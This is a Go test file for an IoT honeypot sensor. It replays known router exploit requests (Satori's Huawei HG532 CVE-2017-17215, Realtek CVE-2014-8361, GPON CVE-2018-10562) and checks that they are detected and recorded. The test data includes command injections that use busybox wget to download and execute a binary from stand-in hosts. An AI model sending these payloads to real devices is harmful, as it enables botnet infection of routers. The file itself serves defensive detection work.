package iothttp

import (
	"bytes"
	"context"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/honeygate/honeygate/internal/event"
	"github.com/honeygate/honeygate/internal/testkit/eventkit"
)

// start serves a sensor on a loopback port; it stops with the test.
func start(t *testing.T) (string, *eventkit.Recorder) {
	t.Helper()
	col := &eventkit.Recorder{Closed: make(chan string, 64)}
	s, err := New(DefaultConfig(), Options{Publisher: col, Sensor: "test"})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	srv := s.NewServer(ctx)
	done := make(chan struct{})
	go func() { _ = srv.Serve(s.WrapListener(ln)); close(done) }()
	t.Cleanup(func() {
		cancel()
		sctx, c2 := context.WithTimeout(context.Background(), 5*time.Second)
		defer c2()
		_ = srv.Shutdown(sctx)
		<-done
	})
	return ln.Addr().String(), col
}

// send makes one request on its own connection, as the worms do, and
// returns the response and the session's events once it closed.
func send(t *testing.T, addr string, col *eventkit.Recorder, method, path string, header http.Header, body string) (*http.Response, []byte, []event.Event) {
	t.Helper()
	req, err := http.NewRequest(method, "http://"+addr+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range header {
		req.Header[k] = v
	}
	req.Close = true
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	select {
	case id := <-col.Closed:
		return resp, b, col.Session(id)
	case <-time.After(10 * time.Second):
		t.Fatal("session did not close")
	}
	return nil, nil, nil
}

func kinds(events []event.Event) []string {
	var out []string
	for _, e := range events {
		out = append(out, string(e.Kind))
	}
	return out
}

func TestLoginPageAndAttempt(t *testing.T) {
	addr, col := start(t)
	resp, body, _ := send(t, addr, col, "GET", "/", nil, "")
	if resp.StatusCode != 200 || !bytes.Contains(body, []byte(`name="password"`)) {
		t.Fatalf("login page: %d %s", resp.StatusCode, body)
	}
	_, _, events := send(t, addr, col, "POST", "/login.cgi", http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}, "username=admin&password=admin")
	var login *event.Event
	for i := range events {
		if events[i].Kind == event.LoginFailed {
			login = &events[i]
		}
	}
	if login == nil || login.Username != "admin" || login.Password == nil || *login.Password != "admin" {
		t.Errorf("login attempt not recorded: %v", kinds(events))
	}
	resp, _, _ = send(t, addr, col, "GET", "/cgi-bin/nothing", nil, "")
	if resp.StatusCode != 404 {
		t.Errorf("unknown path answered %d", resp.StatusCode)
	}
}

// satoriHeaders are the headers of Satori's HG532 exploit request.
func satoriHeaders() http.Header {
	return http.Header{
		"User-Agent":    {"Hello-World"},
		"Content-Type":  {"text/xml"},
		"Authorization": {`Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"`},
	}
}

func find(events []event.Event, kind event.Kind) []event.Event {
	var out []event.Event
	for _, e := range events {
		if e.Kind == kind {
			out = append(out, e)
		}
	}
	return out
}

// TestSatoriHuawei: Satori's CVE-2017-17215 request runs its commands on
// the emulated device, records the payload URL (never fetched) and is
// attributed to satori by its markers.
func TestSatoriHuawei(t *testing.T) {
	addr, col := start(t)
	resp, body, events := send(t, addr, col, "POST", "/ctrlt/DeviceUpgrade_1", satoriHeaders(), huaweiBody)
	if resp.StatusCode != 200 || !bytes.Contains(body, []byte("UpgradeResponse")) {
		t.Errorf("answered %d %s", resp.StatusCode, body)
	}
	x := find(events, event.ExploitAttempt)
	if len(x) != 1 || x[0].CVE != "CVE-2017-17215" || x[0].Stage != event.StageExploit || x[0].Technique != "huawei-hg532-rce" {
		t.Fatalf("exploit.attempt: %+v", x)
	}
	var inputs []string
	for _, e := range find(events, event.CommandInput) {
		inputs = append(inputs, string(e.Input))
	}
	want := []string{"/bin/busybox wget -g 203.0.113.7 -l /tmp/.f -r /okiru.mips", "/bin/busybox chmod 777 /tmp/.f", "/tmp/.f huawei.exploit", "echo HUAWEIUPNP"}
	if strings.Join(inputs, "\n") != strings.Join(want, "\n") {
		t.Errorf("commands %q, want %q", inputs, want)
	}
	closed := events[len(events)-1]
	if closed.Kind != event.SessionClosed || closed.Family != "satori" {
		t.Errorf("last event %s family %q, want session.closed satori; reasons %v", closed.Kind, closed.Family, closed.Reasons)
	}
	for _, r := range []string{"satori-huawei-marker", "satori-digest", "satori-user-agent"} {
		if !strings.Contains(strings.Join(closed.Reasons, "\n"), r) {
			t.Errorf("reasons lack %s: %v", r, closed.Reasons)
		}
	}
}

// TestRealtekGeneric: the CVE-2014-8361 injection without a family's
// markers keeps its CVE attribution, and its download is recorded.
func TestRealtekGeneric(t *testing.T) {
	addr, col := start(t)
	_, _, events := send(t, addr, col, "POST", "/picsdesc.xml",
		http.Header{"SOAPAction": {"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"}}, realtekBody)
	dl := find(events, event.FileDownload)
	if len(dl) != 1 || dl[0].URL != "http://203.0.113.9/bins/mips" {
		t.Errorf("downloads %+v", dl)
	}
	if f := events[len(events)-1].Family; f != "cve-2014-8361" {
		t.Errorf("family %q, want cve-2014-8361", f)
	}
	if len(find(events, event.CommandInput)) != 5 {
		t.Errorf("commands: %v", kinds(events))
	}
}

// TestProbeWithoutInjection: a scanner calling the endpoint with a benign
// upgrade is recorded as a probe and runs nothing.
func TestProbeWithoutInjection(t *testing.T) {
	addr, col := start(t)
	resp, _, events := send(t, addr, col, "POST", "/ctrlt/DeviceUpgrade_1", nil, `<NewStatusURL>http://192.168.1.1/</NewStatusURL>`)
	if resp.StatusCode != 401 || !strings.HasPrefix(resp.Header.Get("WWW-Authenticate"), "Digest") {
		t.Errorf("without credentials: %d %q", resp.StatusCode, resp.Header.Get("WWW-Authenticate"))
	}
	x := find(events, event.ExploitAttempt)
	if len(x) != 1 || x[0].Stage != event.StageProbe || len(find(events, event.CommandInput)) != 0 {
		t.Errorf("events %v", kinds(events))
	}
}

// TestGenericCGI: GPON's diag_Form injection is recognised under its CVE
// and its download recorded.
func TestGenericCGI(t *testing.T) {
	addr, col := start(t)
	_, _, events := send(t, addr, col, "POST", "/GponForm/diag_Form?images/", http.Header{"Content-Type": {"application/x-www-form-urlencoded"}},
		"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.6/gpon+-O+/tmp/g`;sh+/tmp/g&ipv=0")
	x := find(events, event.ExploitAttempt)
	if len(x) != 1 || x[0].CVE != "CVE-2018-10562" || x[0].Technique != "http-command-injection" {
		t.Fatalf("exploit.attempt %+v", x)
	}
	if dl := find(events, event.FileDownload); len(dl) != 1 || dl[0].URL != "http://203.0.113.6/gpon" {
		t.Errorf("downloads %+v", dl)
	}
}
